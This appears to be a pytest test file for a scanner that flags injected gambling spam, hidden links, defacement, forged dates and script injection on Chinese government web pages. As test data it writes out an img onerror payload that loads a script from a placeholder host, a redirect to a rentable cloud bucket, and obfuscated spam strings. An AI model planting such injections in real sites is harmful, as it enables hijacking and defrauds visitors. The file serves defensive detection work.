"""Kinds of injection and of sound pages that an examiner brought, none of them on a list before."""

# ruff: noqa: E501 (markup reads better on one line)

import pytest

TEXT = "各乡镇人民政府要高度重视政务公开工作，明确专人负责，按时报送材料。" * 6
PAGE = "<html><head><title>{title}</title></head><body>{body}<p>{text}</p></body></html>"
OWN = "关于做好政务公开工作的通知_云河县人民政府"


def blocking(look, body="", title=OWN, text=TEXT):
    report = look(PAGE.format(title=title, body=body, text=text))
    return {one.code.value for one in report.findings if one.severity.value == "block"}


@pytest.mark.parametrize(
    "title",
    [
        "乐某体育(中国)官方网站-IOS/安卓通用版/手机APP下载",
        "某冠hga025大陆|中国官网——注册登录",
        "".join(f"&#{ord(one)};" for one in "九某真人(集团)官方网站-App Store 最新版下载"),
        "Hacked by Some Crew",
    ],
)
def test_a_title_that_sells_an_app_or_boasts_is_blocked(look, title):
    assert "spam_text" in blocking(look, title=title)


def test_the_title_of_the_countys_own_app_is_not(look):
    text = "云河通APP安卓版和iOS版今天上线，请在官方网站下载客户端，用手机号码注册后登录。" * 4
    title = "云河通APP安卓版、iOS版下载和注册登录说明"
    assert not blocking(look, title=title, text=text)


def test_a_picture_that_fails_to_load_may_not_fetch_a_strangers_script(look):
    body = """<img src=x onerror="var s=document.createElement('script');s.src='//some-host.example.net/1.js';document.body.appendChild(s)">"""
    assert "active_content" in blocking(look, body)


def test_offers_in_a_list_of_links_that_drops_down_are_blocked(look):
    body = (
        "<select><option>友情链接</option><option value='http://a.example.net'>万赢娱乐</option>"
        "<option value='http://b.example.net'>四海图库49</option>"
        "<option value='http://c.example.net'>金冠彩票</option></select>"
    )
    assert "foreign_link" in blocking(look, body)


def test_a_hidden_list_of_newspapers_among_known_hosts_is_a_menu(look):
    names = ("http://www.people.com.cn", "人民网"), ("http://news.strange-test.net", "云河新闻网"), (
        "http://daily.strange-test.org", "宁澜日报")  # fmt: skip
    items = "".join(f"<li><a href='{href}'>{name}</a></li>" for href, name in names)
    assert not blocking(look, f"<ul style='display:none'>{items}</ul>")


def test_the_same_list_with_a_brand_in_it_is_none(look):
    body = (
        "<ul style='display:none'><li><a href='http://www.people.com.cn'>人民网</a></li>"
        "<li><a href='http://news.strange-test.net'>沙某体育官网</a></li></ul>"
    )
    assert "hidden_text" in blocking(look, body)


def test_papers_for_sale_beside_a_foreign_mailbox_are_blocked(look):
    assert "spam_text" in blocking(look, "<p>代发论文 包录用 fabiao2026@outlook.com 核心期刊</p>")


@pytest.mark.parametrize(
    "text",
    [
        "青山镇举办品茶节，客人品新茶、赏茶艺，嫩茶每斤八百元，高端茶供不应求，可以上门采摘，也可以加微信订购。",
        "Levofloxacin, tramadol, sildenafil and alprazolam are reviewed by the pharmacy committee.",
    ],
)
def test_trades_that_share_words_with_spam_are_left_alone(look, text):
    assert not blocking(look, f"<p>{text}</p>")


@pytest.mark.parametrize("host", ["some-bucket.oss-cn-beijing.aliyuncs.com", "x.bj.bcebos.com"])
def test_a_host_that_anybody_may_rent_is_not_trusted(look, host):
    body = f"<script>location.href='https://{host}/i.html'</script>"
    assert "active_content" in blocking(look, body)


def test_a_private_character_beside_half_a_character_is_broken(look):
    assert "private_use" in blocking(look, "<p>压实防汛责任６匀\ue08c\ufffd12座水库</p>")


@pytest.mark.parametrize(
    "title",
    [
        "县政府召开常务会议_云河县人民政府-金某体育网页版登录入口",
        "雷某比分直播app下载·(中国)官方网站 | 县政府召开常务会议",
        "开某(中国)Kaiyun·官方网站",
    ],
)
def test_a_part_that_was_put_to_the_pages_own_title_is_blocked(look, title):
    assert "spam_text" in blocking(look, title=title)


@pytest.mark.parametrize(
    "body",
    [
        "<p>b\u200be\u200bt\u200b3\u200b6\u200b5 体\u2060育\u2060在\u2060线</p>",
        "<p>博̲彩̲网̲址̲大̲全̲ 开̶户̶送̶钱̶</p>",
        "<p>澳<br>门<br>新<br>葡<br>京<br>娱<br>乐<br>场</p>",
        "<p>🎰真人🎲荷官🃏发牌💰秒到账👉 dd8899.vip 👈</p>",
        "<p>亚某手机版官方登录-亚某app(中国)官网下载 某游戏综合官网入口</p>",
    ],
)
def test_words_overdrawn_set_below_each_other_or_unlisted_are_blocked(look, body):
    assert "spam_text" in blocking(look, body)


def test_a_point_of_a_picture_leads_to_no_bought_host(look):
    body = "<map name='m'><area shape='rect' coords='0,0,1,1' href='http://www.49strange.cc'></map>"
    assert "foreign_link" in blocking(look, body)


def test_a_motto_behind_the_footer_is_no_offer(look):
    foot = (
        "网站标识码：9903210001 冀公网安备 13053402000018号<br>清风徐来 水波不兴 云河明月 羊绒之都"
    )
    report = look(
        f"<html><head><title>{OWN}</title></head><body><p>{TEXT}</p><p>{foot}</p></body></html>"
    )
    assert not [one for one in report.findings if one.severity.value == "block"]


def test_a_key_in_base64_is_no_account_and_no_offer(look):
    key = "log.example+5f1c+AWtgabcdq1/xk2mmzo/kq7oopz/wvx8abqqe/Zr3llop/Yh5kkab"
    assert not blocking(look, f"<p>{key}</p>")


@pytest.mark.parametrize(
    "line",
    [
        "<p>长期代开各行业发票，点数优惠，验后付款，Q：77889900</p>",
        "<p>USDT跑分平台招募，日入过万，飞机联系 @pf888</p>",
    ],
)
def test_prose_that_sells_beside_an_account_written_short_is_blocked(look, line):
    assert "spam_text" in blocking(look, line)


def test_a_notice_that_names_the_sites_it_closed_is_not_blocked(look):
    text = "依法关闭以下网站：some888.com、xpj-vip.cc、bet365-cn.top。"
    title = "关于取缔一批非法网站的公告"
    assert not blocking(look, title=title, text=text + TEXT)


def test_an_app_offered_at_an_offices_own_address_is_not_blocked(look):
    text = "扫码下载官方APP，安卓、iOS通用，手机登录入口：https://app.yunhe.gov.cn。注册送公交券。"
    assert not blocking(look, title="“云河通”APP下载", text=text)
    sold = "扫码下载官方APP，真人荷官百家乐，手机登录入口：https://app.yunhe.gov.cn。注册送彩金。"
    assert blocking(look, title="通知", text=sold)


@pytest.mark.parametrize(
    ("line", "forged"),
    [
        ("发布时间：1970-01-01", True),
        ("发布日期：1993年12月1日", True),
        ("发布时间：1998-05-01", False),
        ("1949-10-01 县人民政府成立。时间：1970-01-01 化肥厂投产。", False),
    ],
)
def test_a_publication_before_any_office_had_a_site_is_told(look, line, forged):
    report = look(PAGE.format(title=OWN, body=f"<p>{line}</p>", text=TEXT))
    assert ("forged_date" in {one.code.value for one in report.findings}) is forged
